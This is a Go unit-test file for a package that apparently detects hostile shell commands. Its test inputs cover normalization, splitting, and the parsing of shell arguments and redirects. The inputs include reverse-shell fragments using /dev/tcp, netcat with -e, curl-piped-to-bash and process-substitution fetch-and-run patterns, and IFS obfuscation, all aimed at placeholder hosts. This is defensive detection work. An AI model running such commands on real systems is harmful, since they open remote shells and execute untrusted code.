package detectors

import (
	"fmt"
	"slices"
	"strings"
	"testing"
)

func TestNormalize(t *testing.T) {
	tests := []struct{ in, want string }{
		{"bash -i", "bash -i"},
		{"  BASH\t-I  ", "bash -i"},
		{`sh -c "curl 'x' | b\ash"`, "sh -c curl x | bash"},
		{"curl${IFS}-s$IFS-o$IFS$9x", "curl -s -o x"},
		{"echo $IFSX", "echo $ifsx"},
		{"a\nb\r\nc", "a;b;;c"},
	}
	for _, tt := range tests {
		if got := normalize(tt.in); got != tt.want {
			t.Errorf("normalize(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestSplit(t *testing.T) {
	show := func(segs []segment) string {
		var b strings.Builder
		for _, s := range segs {
			fmt.Fprintf(&b, "[%s]%s", strings.Join(s.words, " "), s.next)
		}
		return b.String()
	}
	tests := []struct{ in, want string }{
		{"a b", "[a b]"},
		{"a|b||c&&d;e&f", "[a]|[b]||[c]&&[d];[e]&[f]"},
		{"bash -i >& /dev/tcp/h/1 0>&1", "[bash -i >& /dev/tcp/h/1 0>&1]"},
		{"cmd &>log 2>&1 <&3", "[cmd &>log 2>&1 <&3]"},
		{"sh -c $(curl x)", "[sh -c]$([curl x])[]"},
		{"bash <(curl x)", "[bash]<([curl x])[]"},
		{"tee >(sh)", "[tee]>([sh])[]"},
		{"eval `curl x`", "[eval]`[curl x]`[]"},
		{"a |& b", "[a]|[b]"},
		{"echo >| f", "[echo >| f]"},
		{"case x in a) b;; esac", "[case x in a])[b];[esac]"},
	}
	for _, tt := range tests {
		if got := show(split(tt.in)); got != tt.want {
			t.Errorf("split(%q) = %s, want %s", tt.in, got, tt.want)
		}
	}
}

func TestCommands(t *testing.T) {
	tests := []struct {
		in   string
		want []string // program words, outermost first
	}{
		{"curl x", []string{"curl"}},
		{"foo=1 curl x", []string{"curl"}},
		{"sudo -u root -E bash -s", []string{"bash"}},
		{"timeout 5 nice -n 10 wget x", []string{"wget"}},
		{"env -i path=/bin sh -c curl x", []string{"sh", "curl"}},
		{"bash -o pipefail -c sh -c nc -e sh", []string{"bash", "sh", "nc"}},
		{"su root -c curl x", []string{"su", "curl"}},
		{"busybox nc -e sh", []string{"nc"}},
		{"2>/dev/null >& /dev/tcp/h/1 exec 3<&0 bash", []string{"bash"}},
		{"! { curl", []string{"curl"}},
		{"sudo", nil},
		{"sh script.sh -c x", []string{"sh"}},
	}
	for _, tt := range tests {
		var got []string
		for _, c := range commands(strings.Fields(tt.in)) {
			got = append(got, c[0])
		}
		if !slices.Equal(got, tt.want) {
			t.Errorf("commands(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestParseShellArgs(t *testing.T) {
	tests := []struct {
		in                                  string
		command, stdin, interactive, script bool
		readsStdin                          bool
	}{
		{in: "", readsStdin: true},
		{in: "-i", interactive: true, readsStdin: true},
		{in: "-li 2>&1", interactive: true, readsStdin: true},
		{in: "--norc -i -s m", interactive: true, stdin: true, readsStdin: true},
		{in: "-s -- --yes", stdin: true, readsStdin: true},
		{in: "-", readsStdin: true},
		{in: "-c x", command: true},
		{in: "-o pipefail -c x", command: true},
		{in: "+o posix -lc x", command: true},
		{in: "script.sh", script: true},
		{in: "-x script.sh arg", script: true},
		{in: "--rcfile f", readsStdin: true},
		{in: "< /tmp/s 2>&1", readsStdin: true},
	}
	for _, tt := range tests {
		sa := parseShellArgs(strings.Fields(tt.in))
		if sa.command != tt.command || sa.stdin != tt.stdin || sa.interactive != tt.interactive ||
			sa.script != tt.script || sa.readsStdin() != tt.readsStdin {
			t.Errorf("parseShellArgs(%q) = %+v, readsStdin %v", tt.in, sa, sa.readsStdin())
		}
	}
}

func TestIsRedirect(t *testing.T) {
	tests := []struct {
		in             string
		redirect, next bool
	}{
		{">", true, true},
		{">&", true, true},
		{"2>&1", true, false},
		{"0<&196", true, false},
		{"196<>/dev/tcp/h/1", true, false},
		{"&>log", true, false},
		{"<&-", true, false},
		{">>", true, true},
		{"2", false, false},
		{"-i", false, false},
		{"a>b", false, false},
	}
	for _, tt := range tests {
		r, n := isRedirect(tt.in)
		if r != tt.redirect || n != tt.next {
			t.Errorf("isRedirect(%q) = %v, %v; want %v, %v", tt.in, r, n, tt.redirect, tt.next)
		}
	}
}
